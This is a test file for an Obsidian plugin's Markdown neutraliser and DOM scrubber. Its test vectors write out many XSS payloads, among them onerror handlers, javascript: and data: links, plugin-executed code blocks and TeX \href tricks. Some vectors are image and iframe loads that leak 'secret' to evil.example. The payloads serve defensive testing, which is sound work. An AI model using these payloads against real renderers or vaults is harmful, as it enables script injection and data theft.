// @vitest-environment happy-dom
import MarkdownIt from "markdown-it";
import { describe, expect, it } from "vitest";
import { blocksOf } from "../../../obsidian-plugin/src/blocks";
import { neutralise, scrub } from "../../../obsidian-plugin/src/neutralise";
import { effort } from "./support";

/** A renderer that lets through all that Markdown can make: raw HTML, any scheme, bare addresses. */
const CARELESS = new MarkdownIt({ html: true, linkify: true, breaks: true });
CARELESS.validateLink = () => true;
CARELESS.normalizeLink = (url) => url;
CARELESS.linkify.add("//", null).add("obsidian:", "http:").add("javascript:", { validate: /^\S+/ });
CARELESS.inline.ruler.before("link", "wikilink", (state, silent) => {
  const found = /^(!?)\[\[([^[\]\n|]+)(?:\|([^[\]\n]*))?\]\]/.exec(state.src.slice(state.pos));
  if (found === null) return false;
  if (!silent) {
    const token = state.push("wikilink", found[1] ? "img" : "a", 0);
    token.content = found[2] ?? "";
  }
  state.pos += found[0].length;
  return true;
});
CARELESS.renderer.rules.wikilink = (tokens, at) => {
  const { tag, content } = tokens[at] ?? { tag: "", content: "" };
  const name = CARELESS.utils.escapeHtml(content);
  return tag === "img"
    ? `<img src="${name}" class="internal-embed">`
    : `<a class="internal-link" data-href="${name}" href="${name}">${name}</a>`;
};

/** Languages for which a plugin, or Obsidian itself, draws or runs something. */
const RUN =
  /^language-(?:dataviewjs|dataview|mermaid|query|base|tasks|button|js-engine|run-|templater|ad-|chart|meta-bind|embed|leaflet|tikz|plantuml)/;
const LIVE_TAGS =
  "script, style, iframe, object, embed, img, video, audio, source, svg, form, input:not([type=checkbox]), link, meta, base, " +
  "details, marquee, math, textarea, button, template, picture";

function rendered(markdown: string): HTMLElement {
  const root = document.createElement("div");
  root.innerHTML = CARELESS.render(neutralise(markdown));
  return root;
}

function plain(text: string): string {
  return text.replaceAll("\u2060", "");
}

/** Nothing of it may run, load, transclude or lead anywhere but into the web or to a note. */
function expectHarmless(root: HTMLElement, what: string): void {
  expect(
    [...root.querySelectorAll(LIVE_TAGS)].map((el) => el.outerHTML),
    what,
  ).toEqual([]);
  for (const el of root.querySelectorAll("*")) {
    for (const { name, value } of el.attributes) {
      expect(/^on|^style$|src|^id$/i.test(name), `${what}: ${name}`).toBe(false);
      if (/href/.test(name) && !el.classList.contains("internal-link")) expect(value, what).toMatch(/^https?:\/\//i);
      if (/href/.test(name)) expect(value, what).not.toMatch(/^(?!https?:)\s*[a-z][a-z0-9+.-]*:/i);
    }
    for (const name of el.classList) expect(name, what).not.toMatch(RUN);
    if (el.tagName === "CODE") expect((el.textContent ?? "").trim(), what).not.toMatch(/^\$?=|^[A-Z]+\[|^dv:/);
  }
  const live = root.innerHTML.replace(/&amp;/g, "&");
  expect(live, what).not.toMatch(/<%|%%|\\(?:href|style|class|bbox|require|unicode|mmlToken|cssId|data)\b/);
}

/** Each with words of it that a reader must still see. */
const VECTORS: [string, string][] = [
  // Case 31.
  [
    'before <img src=x onerror="window.PWN=1"> harvest <script>window.PWN=2</script>',
    '<img src=x onerror="window.PWN=1">',
  ],
  ["unfinished tag <img src=x onerror=window.PWN=3 \n", "<img src=x onerror=window.PWN=3"],
  ["[click](javascript:window.PWN=4) [[javascript:alert(1)]]", "click"],
  ["<b onmouseover=window.PWN=5>t", "<b onmouseover=window.PWN=5>t"],
  ["<svg/onload=window.PWN=6> [a](data:text/html,<script>window.PWN=7</script>)", "<svg/onload=window.PWN=6>"],
  ["```html\n<img src=x onerror=window.PWN=8>\n```", "<img src=x onerror=window.PWN=8>"],
  // HTML in every position that begins it.
  ["<iframe src='https://evil.example/?q=secret'></iframe>", "<iframe"],
  ["<IMG SRC=//evil.example/a>", "<IMG"],
  ["text\n<div style='background:url(//evil.example/x)'>\n\nb\n\n</div>", "<div style="],
  ["<style>@import url(//evil.example)</style>", "@import"],
  ["<!-- hidden --> seen <!DOCTYPE x> <?php x ?> <![CDATA[x]]>", "<!-- hidden -->"],
  ["- <details open ontoggle=alert(1)>\n> <video src=x onerror=alert(1)>", "ontoggle"],
  ["| a |\n|---|\n| <img src=x> |", "<img src=x>"],
  ["# <img src=x>", "<img src=x>"],
  ["\\<img src=x> \\\\<img src=y> \\\\\\<img src=z>", "<img src=y>"],
  ["<a\nhref='javascript:x'>a</a\n>", "<a"],
  ["<form action=//evil><button formaction=javascript:x>", "<button"],
  ["<math href=javascript:x>", "<math"],
  ["</p><img src=x>", "</p>"],
  // HTML where a renderer and we might not agree on what is code.
  ["a ` b\nc `<img src=x>` d", "<img src=x>"],
  ["| `a | b` <img src=x> | `<img src=y>` |\n|---|---|---|\n| `a | <img src=z>` | c |", "<img"],
  ["> ```\n<img src=x>\n> ```", "<img src=x>"],
  ["- ```\n<img src=x>\n```\n<img src=y>", "<img src=y>"],
  ["$`$ <img src=x> `", "<img src=x>"],
  ["\\`<img src=x>\\`", "<img src=x>"],
  ["``<img src=x>`", "<img src=x>"],
  ["<div>\n```\n</div>\n<img src=x>\n```", "<img src=x>"],
  ["    <img src=x>\n\ttext", "<img src=x>"],
  ["~~~ `\n<img src=x>\n~~~", "<img src=x>"],
  ["1) ```\n   a\n<img src=x>", "<img src=x>"],
  // Signs in disguise.
  ["&lt;img src=x onerror=alert(1)&gt; &#60;img src=y&#x3e;", "img src=x"],
  ["[a](&#106;avascript:x) [b](java&Tab;script:x) [c](javascript&colon;x)", "a"],
  ["&amp;lt;img src=x&amp;gt;", "img src=x"],
  // Pictures, embeds and what loads by being shown.
  ["![x](http://evil.example/?text=secret)", "x"],
  ["![x][1]\n\n[1]: http://evil.example/?text=secret", "x"],
  ["![1]\n\n  [1]:\n  http://evil.example/?text=secret", "1"],
  ["[![x](https://evil.example/i.png)](https://evil.example)", "x"],
  ["![[Secret]] ![[Secret#Heading|100]] !![[Secret]] ![[https://evil.example/i.png]]", "Secret"],
  ["![x](<http://evil.example/i.png>) ![x](\nhttp://evil.example/i.png)", "x"],
  // Links to anywhere but the web or a note.
  ["[a](<javascript:x>) [b]( javascript:x) [c](\njavascript:x) [d](JAVASCRIPT:x)", "a"],
  ["<javascript:x> <data:text/html,x> <obsidian://open?vault=x> <a@b.example>", "<javascript:x>"],
  ["[a](obsidian://advanced-uri?x) obsidian://shell?x=1 file:///etc/passwd", "shell"],
  ["[a][1] [1] [b][]\n\n[1]: javascript:x\n[b]: data:text/html,x", "a"],
  ["[a](vbscript:x) [a](//evil.example) [a](\\\\evil) [a](/etc) [a](#x) [a](Note.md)", "a"],
  ["[[java\tscript:x]] [[ javascript:x|a]] [[data:text/html,x]] [[obsidian://x]]", "a"],
  ["[a](http:javascript:x) [a](https:/evil)", "a"],
  ["[^1]\n\n[^1]: <img src=x> ^[<img src=y>]", "<img src=y>"],
  // What plugins run.
  ["```dataviewjs\ndv.view('x')\n```", "dv.view('x')"],
  ["~~~ DataviewJS x\ndv.view('x')\n~~~", "dv.view('x')"],
  ["> - ```dataviewjs\n>   dv.x\n>   ```", "dv.x"],
  ["1. ~~~~dataview\n   list\n   ~~~~", "list"],
  ['```mermaid\ngraph TD; A-->B; click A href "javascript:x"\n```', "graph TD"],
  ["````md\n```query\nsecret\n```\n````", "query"],
  ["```query\nsecret\n```\n```base\nx\n```\n```tasks\nx\n```\n```js-engine\nx\n```\n```run-python\nx\n```", "secret"],
  ["``` \tdataviewjs\nx\n```", "x"],
  ["`= dv.pages()` `$= dv.x` ` = 1` `` `= 1` `` `\n= 1`", "dv.pages()"],
  ["a `b\n`= dv.x` c` | `x`= dv.y` |", "dv.x"],
  ["| `a | `= dv.x` | b` |\n|---|---|---|\n| `a | `$= dv.y` | b` |", "dv.x"],
  ["text\n    ```\n= dv.x ```", "dv.x"],
  // Dataview reads blocks of code as it reads inline code, from their first word.
  ["```js\n$= dv.x\n```\n~~~\n$= dv.y\n~~~\n```\n\n= dv.z\n```", "dv.z"],
  ["Look:\n\n    $= dv.x\n\n- a\n  ```text\n  = dv.y\n  ```\n\n> ```\n>\n> $= dv.z\n> ```", "dv.y"],
  ["text\n2) ```\n= dv.x ```", "dv.x"],
  ["`VIEW[{x}][text]` `INPUT[text:x]` `BUTTON[x]` `dv: x`", "VIEW[{x}]"],
  ["<% tp.user.x() %> `<%+ x %>`\n```js\n<%* x %>\n```", "tp.user.x()"],
  ["a %% hidden %% b\n%%\nhidden\n%%", "hidden"],
  ["text\r```dataviewjs\rdv.x\r```\r`= dv.y`\r---", "dv.x"],
  // TeX.
  ["$\\href{javascript:x}{y}$ $$\\style{background:url(//evil)}{x}$$", "javascript:x"],
  ["$\\def\\x{\\href}\\x{javascript:y}{z}$ $\\bbox[url(//evil)]{x}$", "z"],
  [
    '$\\class{x}{y}\\cssId{x}{y}\\require{html}\\unicode[x]{1}\\mmlToken{mi}[href="javascript:x"]{y}\\data{a=b}{c}$',
    "y",
  ],
];

describe("Neutralised Markdown", () => {
  it.each(VECTORS)("is harmless, and still to be read: %j", (markdown, words) => {
    const root = rendered(markdown);
    expectHarmless(root, markdown);
    expect(plain(root.textContent ?? "").replace(/\s+/g, " ")).toContain(words);
  });

  it.each(VECTORS)("stays harmless block by block, and when it is done twice: %j", (markdown) => {
    for (const block of blocksOf(markdown)) expectHarmless(rendered(block), block);
    const once = neutralise(markdown);
    expect(neutralise(once)).toBe(once);
  });

  it.each(VECTORS)("stays harmless where a plugin renders again what was shown: %j", (markdown) => {
    const shown = rendered(markdown);
    for (const el of shown.querySelectorAll("code, pre")) el.remove();
    const again = document.createElement("div");
    again.innerHTML = CARELESS.render(shown.textContent ?? "");
    expect(again.querySelectorAll("img, script, iframe, svg, [onerror], [href^='javascript' i]")).toHaveLength(0);
  });

  it("shows what these vectors do without it", () => {
    const root = document.createElement("div");
    let loaded = 0;
    for (const [markdown] of VECTORS) {
      root.innerHTML = CARELESS.render(markdown);
      loaded += root.querySelectorAll("img, script, [href^='javascript' i], [class*='dataviewjs']").length;
    }
    expect(loaded).toBeGreaterThan(40);
  });

  it("leaves plain Markdown as it was", () => {
    const text = [
      "# Heading\n\nWords, *stress*, **strong**, ~~gone~~, ==marked==, `code`, [[Note#Part|name]], [web](https://x.example/a_(b)?c=1&d=2).",
      "- [ ] open\n- [x] done\n\n1. one\n   - two\n\n> [!note] Callout\n> text",
      "| a | b |\n|---|--:|\n| 1 | 2 |\n\n---\n\n$a^2 < b$ and 3 < 4, 5 % of 6, AT&T &nbsp; x!",
      "```python\nprint([1][0], a['b'](c))\n```\n\n~~~\nplain\n~~~",
      "مرحبا [1] 中文 [2, 3] https://x.example/?q=a:b",
    ].join("\n\n");
    const harmless = neutralise(text);
    expect(plain(harmless)).toBe(text);
    // Inline code begins with a joiner, and what could be a link to a place that is no page is parted.
    expect(
      harmless
        .split("\u2060")
        .slice(1)
        .map((after) => after.slice(0, 4)),
    ).toEqual(["code", ", [[", "(c))"]);
  });

  it("adds nothing but joiners, and a blank line before dashes that would begin properties", () => {
    for (const [markdown] of VECTORS) expect(plain(neutralise(markdown))).toBe(markdown.replaceAll("\r", "\n"));
    expect(neutralise("---\ntitle: x\n---\ntext")).toBe("\n---\ntitle: x\n---\ntext");
    expect(neutralise(neutralise("---\nx\n---"))).toBe("\n---\nx\n---");
  });

  it("keeps a citation from being a task's box", () => {
    for (const begin of ["- ", "* ", "1. ", "> - ", "  + "]) {
      expect(neutralise(`${begin}[1] x`)).toBe(`${begin}[\u20601] x`);
    }
    expect(neutralise("- [x] done")).toBe("- [x] done");
    expect(neutralise("[1] first, [2](x) and\n[3]: y")).toBe("[1] first, [2]\u2060(x) and\n[3]\u2060: y");
  });

  it.each([
    ["tags", "<a "],
    ["brackets", "["],
    ["double brackets", "[["],
    ["closed brackets", "]("],
    ["pictures", "!["],
    ["backticks", "`"],
    ["spaced backticks", "` "],
    ["runs of backticks", "```` ``` "],
    ["quotes", "> "],
    ["items", "- "],
    ["numbers", "1. "],
    ["blanks", " "],
    ["tabs", "\t"],
    ["lines", "\n"],
    ["line separators", "\u2028"],
    ["backticks and blanks", `\`${" ".repeat(500)}`],
    ["fences", "```x\n"],
    ["tildes", "~"],
    ["entities", "&amp;"],
    ["backslashes", "\\"],
    ["dollars", "$"],
    ["letters", "a"],
    ["letters with dots", "a."],
    ["schemes", "a:"],
    ["percents", "%"],
    ["links with blanks", `](${" ".repeat(500)}`],
    ["TeX", "\\href"],
  ])("takes well under a second for a megabyte of %s", (_, piece) => {
    const text = piece.repeat(Math.ceil(1_000_000 / piece.length));
    expect(effort(() => neutralise(`${text}!`))).toBeLessThan(1_500);
  });
});

describe("Scrubbed DOM", () => {
  function scrubbed(html: string): HTMLElement {
    const root = document.createElement("div");
    root.innerHTML = html;
    scrub(root);
    return root;
  }

  it.each([
    ['<script>x</script><style>y</style><iframe src="x"></iframe>a', "a"],
    ['<img src="x" onerror="y" alt="a picture">', "a picture"],
    ['<p onclick="x" id="y" style="background:url(//evil)">a</p>', "<p>a</p>"],
    [
      '<a href="javascript:x">a</a><a href=" java&#9;script:x" class="internal-link">b</a>',
      '<a>a</a><a class="internal-link">b</a>',
    ],
    ['<a href="data:text/html,x">a</a> <a href="//evil">b</a>', "<a>a</a> <a>b</a>"],
    ['<a class="internal-link" data-href="data:x" href="obsidian://x">a</a>', '<a class="internal-link">a</a>'],
    ['<span class="internal-embed" src="Secret">a</span>', '<span class="internal-embed">a</span>'],
    ["<form action=x><input name=y><button formaction=z>a</button>b</form>", "b"],
    ['<pre><button class="run-code-button">Run</button><code>x</code></pre>', "<pre><code>x</code></pre>"],
    ['<button class="copy-code-button">Copy</button>', '<button class="copy-code-button">Copy</button>'],
    ['<svg onload="x"><use href="#a"></use><foreignObject><b>a</b></foreignObject><path d="M0 0"></path></svg>', null],
    ["<custom-part a=b><b>a</b></custom-part>", "<b>a</b>"],
    ['<p href="https://x.example" data-href="x" data-src="x">a</p>', "<p>a</p>"],
    ['<div style="position: fixed; top: 0">a</div>', "<div>a</div>"],
    ["<input type=text value=x><input type=checkbox checked>", '<input type="checkbox" checked="" disabled="">'],
  ])("holds nothing of %s that loads, runs or leads astray", (html, expected) => {
    const root = scrubbed(html);
    if (expected !== null) expect(root.innerHTML).toBe(expected);
    expect(
      root.querySelectorAll("script, style, iframe, img, form, use, foreignObject, [onload], [src], [id]"),
    ).toHaveLength(0);
  });

  it.each([
    '<a class="internal-link" data-href="Note#Part: x" href="Note#Part: x" target="_blank" rel="noopener nofollow">a</a>',
    '<a class="external-link" href="https://x.example/?a=b" target="_blank" rel="noopener nofollow">a</a>',
    '<a class="tag" href="#tag" target="_blank">#tag</a>',
    '<ul class="contains-task-list"><li class="task-list-item is-checked" data-task="x">a</li></ul>',
    '<div class="callout" data-callout="note" data-callout-fold="" data-callout-metadata=""><div class="callout-title" dir="auto">' +
      '<div class="callout-icon"><svg class="svg-icon" viewBox="0 0 24 24" width="24" height="24" fill="none" stroke="currentColor">' +
      '<path d="M1 1"></path></svg></div></div></div>',
    '<table><thead><tr><th style="text-align: right;">a</th></tr></thead><tbody><tr><td align="left" colspan="2">b</td></tr></tbody></table>',
    '<ol start="3"><li>a</li></ol><sup>1</sup><mark>b</mark><del>c</del><hr><br>',
    '<pre class="language-js" tabindex="0"><code class="language-js is-loaded"><span class="token keyword">let</span></code>' +
      '<button class="copy-code-button">copy</button></pre>',
    '<span class="math math-inline is-loaded"><mjx-container class="MathJax" jax="CHTML"><mjx-math class="MJX-TEX" aria-hidden="true">' +
      '<mjx-mi class="mjx-i"><mjx-c class="mjx-c1D44E TEX-I"></mjx-c></mjx-mi><mjx-mspace style="width: 0.167em;"></mjx-mspace>' +
      "</mjx-math></mjx-container></span>",
  ])("keeps what Obsidian makes of plain Markdown: %s", (html) => {
    expect(scrubbed(html).innerHTML).toBe(html);
  });

  it("gives code back as it was written, and words their joiners", () => {
    const code = "```md\n![[x]] <b> &lt; [a](b) [1]: c %% `= x`\n```dataviewjs x\n```";
    const inline = "`` `x` `` is `<b>`, `= 1` and **`a`**, <b> stays";
    const root = rendered(`${inline}\n\n\`\`\`\`dataviewjs\n${code}\n\`\`\`\``);
    scrub(root);
    const [first, second, third, fourth, block] = [...root.querySelectorAll("code")].map((el) => el.textContent);
    expect([first, second, third, fourth]).toEqual(["`x`", "<b>", "= 1", "a"]);
    expect(block).toBe(`${code}\n`);
    expect(root.querySelector("pre code")?.className).toBe("");
    expect(root.querySelector("p")?.textContent?.trim()).toBe("`x` is <b>, = 1 and a, <\u2060b> stays");
  });
});
